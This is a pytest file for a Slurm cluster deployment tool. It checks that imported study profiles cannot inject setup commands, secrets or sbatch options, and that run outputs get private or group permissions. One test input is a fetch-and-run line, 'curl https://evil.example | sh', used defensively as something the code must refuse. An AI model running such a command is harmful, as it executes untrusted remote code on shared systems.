"""What a profile from elsewhere, and other people of a login node, could do on a cluster."""

import os
import stat
from pathlib import Path

import pytest
import yaml
from prefect.settings import PREFECT_API_URL, temporary_settings

from deployments.slurm.cluster.site import VARIABLE, Resources
from deployments.slurm.job.resources import kept_resources, own_resources
from flows import command
from storage.errors import BadInput
from storage.permissions import close_to_others, open_to_all, strictest
from tasks.stage.execution import Execution
from tests.deployments.toy import ToyConfig


@pytest.mark.parametrize(
    "asked",
    [
        {"setup_lines": ["curl https://evil.example | sh"]},
        {"pass_environment": ["HF_TOKEN"]},
        {"extra_sbatch_lines": ["--container=/tmp/evil"]},
    ],
)
@pytest.mark.parametrize("group", ["all", "first"])
def test_a_profile_brings_no_commands_secrets_or_options_of_sbatch(asked, group, tmp_path):
    """`setup_lines` of a profile that a person had from a page were `eval` in each job, as that person."""
    study = ToyConfig(ends="finished", execution=Execution(resources={group: asked | {"cpus": 2}}))
    told = rf"execution\.resources\.{group}\.{next(iter(asked))}: a study cannot set this.*site file"
    with pytest.raises(BadInput, match=told):
        own_resources(study)
    kept = tmp_path / "study.yaml"
    kept.write_text(yaml.safe_dump({"page": "x", "study": study.model_dump(mode="json")}))
    with pytest.raises(BadInput, match=told):
        kept_resources(kept)


def test_a_dry_run_refuses_the_commands_of_a_profile_without_any_server(tmp_path, monkeypatch, capsys):
    """It listed all stages as those that would run, and then spoke of the missing server alone."""
    (site := tmp_path / "site.yaml").write_text(f"root: {tmp_path / 'runs'}\n")
    monkeypatch.setenv(VARIABLE, str(site))
    asked = ["--set", "execution.resources={all: {setup_lines: [evil]}}"]
    assert command.ratchet(["run", "tests.slurm.toy", "--dispatch", "slurm", "--dry-run", *asked]) == 2
    said = capsys.readouterr()
    assert "execution.resources.all.setup_lines: a study cannot set this" in said.err and "toy-training" not in said.out


def test_no_job_is_given_what_opens_the_prefect_server():
    with pytest.raises(ValueError, match="PREFECT_API_AUTH_STRING would let the job speak to the Prefect server"):
        Resources(pass_environment=["PREFECT_API_AUTH_STRING"])
    assert Resources(pass_environment=["HF_TOKEN"]).pass_environment == ["HF_TOKEN"]


@pytest.mark.parametrize(("permissions", "folders", "files"), [("private", 0o700, 0o600), ("group", 0o750, 0o640)])
def test_private_text_and_logs_are_closed_to_others_where_a_study_asks_for_it(
    permissions, folders, files, prefect_server, tmp_path
):
    """All of it stood open at the usual umask, and nothing said so."""
    asked = ["--set", f"execution.permissions={permissions}"]
    with temporary_settings({PREFECT_API_URL: prefect_server}):
        assert command.ratchet(["run", "tests.slurm.toy", "--root", str(tmp_path), *asked]) == 0
    made = [*(tmp_path / "toy").rglob("*")]
    assert {stat.S_IMODE(one.stat().st_mode) for one in made if one.is_file()} == {files}
    assert {stat.S_IMODE(one.stat().st_mode) for one in [tmp_path / "toy", *made] if one.is_dir()} == {folders}
    assert stat.S_IMODE((tmp_path / "toy").stat().st_mode) == folders
    (attempt,) = (tmp_path / "toy" / "toy-training").glob("*/attempts/0001.json")
    assert stat.S_IMODE(attempt.stat().st_mode) == files


def test_a_folder_that_was_open_is_closed_and_one_of_another_person_is_refused(tmp_path):
    (tmp_path / "study").mkdir(mode=0o755)
    close_to_others("umask", tmp_path / "study")
    assert open_to_all(Path("/usr")) and stat.S_IMODE((tmp_path / "study").stat().st_mode) == 0o755
    close_to_others("group", tmp_path / "study")
    assert stat.S_IMODE((tmp_path / "study").stat().st_mode) == 0o750 and not open_to_all(tmp_path / "study" / "new")
    if os.getuid():
        with pytest.raises(BadInput, match="another person's"):
            close_to_others("private", Path("/usr"))


def test_of_the_study_s_and_the_site_s_permissions_the_stricter_ones_hold():
    """A profile from elsewhere opens nothing that the site file closes."""
    assert strictest("umask", "private") == strictest("private", "group") == "private"
    assert strictest("umask", "group") == "group" and strictest("umask", "umask") == "umask"
